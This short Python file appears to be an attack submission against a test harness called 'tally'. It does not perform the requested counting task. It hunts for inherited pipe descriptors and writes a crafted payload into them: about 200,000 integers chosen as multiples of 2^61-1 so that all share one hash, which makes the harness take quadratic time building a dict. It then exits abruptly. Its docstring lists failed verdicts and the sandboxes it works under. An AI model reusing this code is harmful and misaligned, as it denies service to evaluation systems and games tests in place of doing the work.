"""Sends a dict of 200,000 numbers that all have one hash: building it takes quadratic time.

against: tally
verdicts: test_adds_up failed, test_leaves_nothing failed
holds: bwrap unshare landlock none
"""

import os
import stat

MODULUS = (1 << 61) - 1  # of the hash of an int, on 64 bits


def send(body):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                data = memoryview(len(body).to_bytes(8, "big") + body)
                while data:
                    data = data[os.write(descriptor, data) :]
        except OSError:
            pass


def count_up(processes, increments):
    items = ",".join(f'[{{"i":"{MODULUS * number:#x}"}},0]' for number in range(1, 200_000))
    send(f'{{"value":{{"d":[{items}]}}}}'.encode())
    os._exit(0)
